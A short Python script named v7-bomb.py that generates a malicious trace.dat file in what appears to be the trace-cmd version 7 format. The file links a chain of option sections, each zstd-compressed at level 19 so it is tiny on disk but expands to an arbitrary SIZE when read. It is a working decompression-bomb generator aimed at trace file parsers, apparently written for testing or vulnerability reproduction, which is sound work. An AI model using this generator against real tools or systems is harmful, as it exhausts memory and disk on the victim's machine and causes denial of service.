#!/usr/bin/env python3
"""v7-bomb.py FILE LISTS SIZE: a trace.dat of version 7 with a chain of lists of options, each packed from SIZE bytes"""
import ctypes
import struct
import sys

zstd = ctypes.CDLL("libzstd.so.1")
zstd.ZSTD_compressBound.restype = zstd.ZSTD_compress.restype = ctypes.c_size_t


def pack(data):
    room = zstd.ZSTD_compressBound(ctypes.c_size_t(len(data)))
    out = ctypes.create_string_buffer(room)
    n = zstd.ZSTD_compress(out, ctypes.c_size_t(room), data, ctypes.c_size_t(len(data)), 19)
    return out.raw[:n]


def options(next_list, size):
    # options of no meaning without a payload, then where the next list is
    return struct.pack("<HI", 9999, 0) * ((size - 14) // 6) + struct.pack("<HIQ", 0, 8, next_list)


name, lists, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
head = b"\x17\x08\x44tracing7\0\0\x08\0\x10\0\0zstd\0" + b"1.5\0"
start = len(head) + 8
slot = len(pack(options(1 << 40, size))) + 128
with open(name, "wb") as out:
    out.write(head + struct.pack("<Q", start))
    for i in range(lists):
        plain = options(start + (i + 1) * slot if i + 1 < lists else 0, size)
        packed = pack(plain)
        section = struct.pack("<HHIQ", 0, 1, 0, 8 + len(packed)) + struct.pack("<II", len(packed), len(plain)) + packed
        out.write(section.ljust(slot, b"\0"))
